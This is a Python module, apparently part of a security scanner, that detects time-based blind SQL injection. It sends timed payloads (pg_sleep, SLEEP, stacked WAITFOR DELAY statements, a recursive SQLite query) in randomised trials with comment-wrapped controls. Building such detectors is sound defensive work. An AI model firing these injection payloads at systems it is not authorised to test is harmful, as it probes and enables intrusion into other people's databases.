"""SQL injection that shows in nothing but time: the answer comes as much later as the value tells the database to wait.

Servers are slow for reasons of their own, so one late answer says nothing.  The waits of a trial are drawn beforehand
and asked for in a random order, half of them none; every answer must be late by its own wait and by no other, within a
fraction of the shortest.  Answers whose time has nothing to do with what was asked pass by chance in at most one of
30,240 trials, however they are spread, for that is in how many ways the waits can be ordered; that their times hit
five different waits besides makes it less again.  Two controls name the longest wait where no database would read it:
what is slow at the sight of the words, or counts the digits, is slow there too.
"""

from __future__ import annotations

import random
from dataclasses import dataclass
from typing import TYPE_CHECKING

from manyeyes_tools.probing.client import SAFE
from manyeyes_tools.probing.proof import Proof, told

if TYPE_CHECKING:
    from collections.abc import Sequence

    from manyeyes_tools.probing.client import Answer
    from manyeyes_tools.probing.entries import Point
    from manyeyes_tools.probing.proof import Lab, Weakness

CONFIDENCE = 0.95
_LEVELS = (1.0, 1.5, 2.0, 2.5, 3.0)
"""The waits of a trial, in units of the shortest."""
_NONE = 5
"""How many requests of a trial ask for no wait."""
_CONTROLS = 2
_TOLERANCE = 0.4
"""In units of the shortest wait: less than lies between two of them, so that their order shows."""
_SHORTEST_S, _LONGEST_S = 0.5, 4.0
_TRIALS = 3
"""With twice the wait each time, where the last failed for the server's own unrest."""
_EARLY = 0.98
"""What waits may end a little early by another clock."""
_UNEVEN = 0.15
_WORK = 2_000_000
_FELT_S = 0.15

# Each is 0 whatever happens, so that nothing widens a statement that changes data.
_WAITS = (
    ("PostgreSQL", "(SELECT 0 FROM (SELECT pg_sleep({s})) q)"),
    ("MySQL", "(SELECT 0 FROM (SELECT SLEEP({s})) q)"),
)
_SPUN = "(WITH RECURSIVE c(x) AS (VALUES(1) UNION ALL SELECT x+1 FROM c WHERE x<{s}) SELECT 0*count(*) FROM c)"
"""SQLite cannot wait, but can be kept busy."""
_EVERYWHERE = "{v} AND 0={e}/*'||{e}||'\"||{e}||\"*/"
"""A number's place, a text's in either kind of quotes, and any of them in brackets: what does not apply is a comment
or text there."""
_NOWHERE = "{v}/* AND 0={e}*/"
"""The same as a comment, or as text: no database waits for it."""
# A statement of its own cuts off what stands behind it: a WHERE, without which UPDATE and DELETE take all rows.  So it
# is asked for only where the request should change nothing.
_STACKED = (("SQL Server", "{v}'; WAITFOR DELAY '0:0:{s}'-- "), ("SQL Server", "{v}; WAITFOR DELAY '0:0:{s}'-- "))
_STACKED_NOWHERE = "{v}/*; WAITFOR DELAY 0:0:{s}-- */"


@dataclass(frozen=True, slots=True)
class _Way:
    """How a database is told to wait.  `per_second` is how much of its unit takes a second; None where that is 1."""

    database: str
    waits: str
    control: str
    per_second: float | None = None

    def payload(self, value: str, seconds: float, *, control: bool = False) -> str:
        amount = f"{seconds:.2f}" if self.per_second is None else str(max(1, int(seconds * self.per_second)))
        return (self.control if control else self.waits).replace("{v}", value).replace("{s}", amount)


def _ways(method: str) -> list[_Way]:
    everywhere = [_Way(name, _EVERYWHERE.replace("{e}", one), _NOWHERE.replace("{e}", one)) for name, one in _WAITS]
    stacked = _STACKED if method in SAFE else ()
    return [*everywhere, *(_Way(name, one, _STACKED_NOWHERE) for name, one in stacked)]


async def by_time(point: Point, lab: Lab, weakness: Weakness, usual: Sequence[Answer]) -> Proof | None:
    """Seek it by time.

    Args:
        point: Where.
        lab: What sends.
        weakness: What a proof is of.
        usual: Answers of before: how quick, and how even, the place is.
    """
    times = [one.seconds for one in usual if one.status]
    if not times:
        return None
    floor, unrest = min(times), max(times) - min(times)
    most = min(_LONGEST_S, lab.client.limits.timeout_s / (_LEVELS[-1] + 1))
    unit = min(max(_SHORTEST_S, 6 * unrest), most)
    value = point.parameter.value
    for way in _ways(point.entry.method):
        first = await lab.ask(point, way.payload(value, unit))
        if first.status and first.seconds >= _EARLY * unit and first.seconds - floor >= unit / 2:
            proof = await _shown(point, lab, weakness, way, (unit, most))
            if proof is not None:
                return proof
    spun = _Way("SQLite", _EVERYWHERE.replace("{e}", _SPUN), _NOWHERE.replace("{e}", _SPUN), _WORK)
    first = await lab.ask(point, spun.payload(value, 1))
    felt = first.seconds - floor
    if not first.status or felt < max(_FELT_S, 4 * unrest):
        return None
    measured = _Way(spun.database, spun.waits, spun.control, _WORK / felt)
    return await _shown(point, lab, weakness, measured, (unit, most))


async def _shown(point: Point, lab: Lab, weakness: Weakness, way: _Way, units: tuple[float, float]) -> Proof | None:
    unit, most = units
    for _ in range(_TRIALS):
        steps, restless = await _trial(point, lab, way, unit)
        if steps:
            shown = (
                f"{_NONE} waits of none and {len(_LEVELS)} of {unit:.2f} to {unit * _LEVELS[-1]:.2f} seconds were "
                f"asked of {way.database} in a random order: each answer came as late as its own, and {_CONTROLS} that "
                f"name the longest in a comment came at once."
            )
            return Proof(weakness, point.entry, point.parameter.name, shown, steps, CONFIDENCE)
        if not restless or unit >= most:
            return None
        unit = min(2 * unit, most)
    return None


async def _trial(point: Point, lab: Lab, way: _Way, unit: float) -> tuple[tuple[tuple[str, str], ...], bool]:
    """The steps of a trial that showed it, else none; and whether another with longer waits might show it."""
    asked = [(level * unit, False) for level in _LEVELS] + [(0.0, False)] * _NONE
    asked += [(_LEVELS[-1] * unit, True)] * _CONTROLS
    random.SystemRandom().shuffle(asked)
    low, high = 0.0, float("inf")
    took: list[tuple[float, float]] = []
    steps: list[tuple[str, str]] = []
    for seconds, control in asked:
        answer = await lab.ask(point, way.payload(point.parameter.value, seconds, control=control))
        wait = 0.0 if control else seconds
        # Work, unlike a wait, is done now quicker, now slower.
        slack = 0.0 if way.per_second is None else _UNEVEN * wait
        if not answer.status or answer.seconds < _EARLY * wait - slack:
            return (), False
        took.append((wait, answer.seconds))
        low, high = max(low, answer.seconds - wait - slack), min(high, answer.seconds - wait + slack)
        if low - high > _TOLERANCE * unit:
            return (), sum(one > 0 for one, _ in took) > 1
        steps.append(told(answer, f"after {answer.seconds:.2f} s{', as a comment' if control else ''}"))
    waits = sorted(one for one in took if one[0] > 0)
    times = [max(time for wait, time in took if not wait), *(time for _, time in waits)]
    return (tuple(steps), False) if times == sorted(times) else ((), True)
